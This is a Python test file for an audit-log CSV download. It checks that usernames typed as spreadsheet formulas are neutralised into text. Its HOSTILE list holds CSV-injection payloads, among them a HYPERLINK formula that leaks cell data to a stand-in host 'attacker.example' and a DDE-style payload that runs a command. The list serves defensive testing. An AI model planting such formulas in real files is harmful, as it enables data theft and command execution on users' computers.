"""The audit CSV download neutralises formula cells typed by users (usernames, names)."""

from __future__ import annotations

import csv
import io

import pandas as pd

from reviews.audit.log import audit_csv, audit_table
from reviews.store import NewDataset
from reviews.workspace.permissions import Actor

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]
ADMIN = Actor("admin", "admin")


def test_formula_usernames_are_text_in_the_audit_csv(store):
    for i, name in enumerate(HOSTILE):
        store.add_dataset(Actor(name, "steward"), NewDataset(f"t{i}", pd.DataFrame({"a": [1, 2]})))
    table = audit_table(store, ADMIN)
    rows = list(csv.DictReader(io.StringIO(audit_csv(table).decode("utf-8"))))
    actors = {row["actor"] for row in rows}
    for name in HOSTILE:
        assert "'" + name in actors and name not in actors
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert {row["seq"] for row in rows} == {str(s) for s in table["seq"]}  # numbers stay numbers
